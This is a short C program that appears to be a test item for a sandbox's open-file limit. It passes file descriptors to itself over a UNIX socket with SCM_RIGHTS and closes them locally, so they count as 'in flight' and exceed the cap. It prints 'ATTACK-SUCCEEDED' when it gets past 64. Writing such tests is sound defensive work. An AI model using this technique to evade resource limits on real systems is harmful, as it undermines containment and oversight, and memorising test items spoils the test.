// goal: keep more open files than allowed by sending them to oneself, and closing them
// success: says
// held_by: limits:open files
// limits: wall=2 open_files=32
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
	int pair[2], sent = 0;
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0)
		return 1;
	fcntl(pair[0], F_SETFL, O_NONBLOCK);
	while (sent < 400) {
		int file = open("/dev/null", O_RDONLY);
		char byte = 0, room[CMSG_SPACE(sizeof file)] = {0};
		struct iovec data = {&byte, 1};
		struct msghdr message = {
			.msg_iov = &data, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
		struct cmsghdr *header = CMSG_FIRSTHDR(&message);
		header->cmsg_level = SOL_SOCKET;
		header->cmsg_type = SCM_RIGHTS;
		header->cmsg_len = CMSG_LEN(sizeof file);
		memcpy(CMSG_DATA(header), &file, sizeof file);
		if (file < 0 || sendmsg(pair[0], &message, 0) != 1)
			break;
		close(file);
		sent++;
	}
	printf("%d\n", sent);
	if (sent > 64)
		printf("ATTACK-SUCCEEDED %d open files in flight\n", sent);
	return 0;
}
